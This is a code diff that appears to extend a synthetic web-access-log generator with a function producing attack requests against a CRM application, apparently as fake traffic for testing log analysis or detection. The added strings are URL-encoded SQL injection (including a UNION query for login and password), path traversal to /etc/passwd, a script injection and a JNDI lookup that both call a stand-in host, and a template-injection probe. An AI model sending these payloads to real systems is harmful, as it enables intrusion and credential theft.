@@ -102,6 +102,30 @@ pub(super) fn write<F: FnMut(Line)>(page: &mut Page<'_, F>) {
             let status = if page.act.device == Device::Program(8) { 400 } else { 404 };
             out(page, user, "GET", PROBES[number as usize % PROBES.len()], status, 153);
         }
+        Deed::Inject { number, answered } => {
+            let status = if !answered {
+                403
+            } else if number.is_multiple_of(3) {
+                500
+            } else {
+                200
+            };
+            out(page, user, "GET", &injection(number), status, if answered { 900 + some } else { 153 });
+        }
         Deed::Health => out(page, user, "GET", "/healthz", 200, 2),
     }
+}
+
+/// An attack on the application, as it stands in a request.
+pub(super) fn injection(number: u32) -> String {
+    const WAYS: [&str; 7] = [
+        "/crm/search?q=%27%20OR%201%3D1%20--%20",
+        "/crm/contacts?sort=name%20UNION%20SELECT%20login%2Cpassword%20FROM%20users%20LIMIT%20",
+        "/crm/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd%00",
+        "/crm/search?q=%3Cscript%3Efetch(%27//x.example/",
+        "/crm/reports?filter=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2F",
+        "/crm/export?template=%7B%7B7*7%7D%7D",
+        "/crm/contacts?id=1%20AND%20SLEEP(5)%23",
+    ];
+    format!("{}{number}", WAYS[number as usize % WAYS.len()])
 }
